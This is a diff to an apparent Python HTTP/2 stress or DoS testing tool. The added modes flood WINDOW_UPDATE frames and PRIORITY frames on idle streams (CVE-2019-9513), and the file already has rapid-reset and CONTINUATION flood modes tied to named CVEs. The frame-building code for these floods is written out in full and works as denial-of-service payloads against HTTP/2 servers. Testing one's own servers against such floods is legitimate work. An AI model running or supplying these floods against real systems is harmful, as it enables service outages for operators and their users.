@@ -5,6 +5,8 @@ Modes:
 - ``rapid-reset``: HEADERS then RST_STREAM(CANCEL) on new streams as fast as possible (CVE-2023-44487).
 - ``continuation``: one HEADERS without END_HEADERS, then CONTINUATION frames without end (CVE-2024-27316).
 - ``ping``, ``settings``: PING / SETTINGS frames as fast as possible.
+- ``window-update``: connection WINDOW_UPDATEs of increment 1 as fast as possible (the window never overflows).
+- ``priority``: PRIORITY frames for idle streams as fast as possible (CVE-2019-9513).
 - ``streams``: ``--count`` tiny GETs, at most ``--window`` in flight per connection over ``--connections``
   connections, every response read: the server's per-stream cost and whether it leaks per stream.
 
@@ -37,7 +39,7 @@ from dataclasses import asdict, dataclass, field
 import hpack
 from hpack import NeverIndexedHeaderTuple
 
-MODES = ("rapid-reset", "continuation", "ping", "settings", "streams")
+MODES = ("rapid-reset", "continuation", "ping", "settings", "window-update", "priority", "streams")
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
 END_STREAM = ACK = 0x1
 END_HEADERS, PADDED, PRIORITY_FLAG = 0x4, 0x8, 0x20
@@ -285,8 +287,16 @@ def batches(mode: str, authority: str, path: str, frame_bytes: int) -> Batch:
     def settings(n: int) -> tuple[bytes, int, int]:
         return frame(SETTINGS, 0, 0, struct.pack(">HI", 0x2, 0)) * n, n, 0  # ENABLE_PUSH 0: harmless, repeated
 
+    def window_update(n: int) -> tuple[bytes, int, int]:
+        return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * n, n, 0
+
+    def priority(n: int) -> tuple[bytes, int, int]:
+        sid = state["sid"]
+        state["sid"] = sid + 2 * n  # idle streams (never opened), each depending on stream 0 with weight 16
+        return b"".join(frame(PRIORITY, 0, s, struct.pack(">IB", 0, 15)) for s in range(sid, sid + 2 * n, 2)), n, 0
+
     table: dict[str, Batch] = {"rapid-reset": rapid_reset, "continuation": continuation, "ping": ping,
-                               "settings": settings}
+                               "settings": settings, "window-update": window_update, "priority": priority}
     return table[mode]
 
 
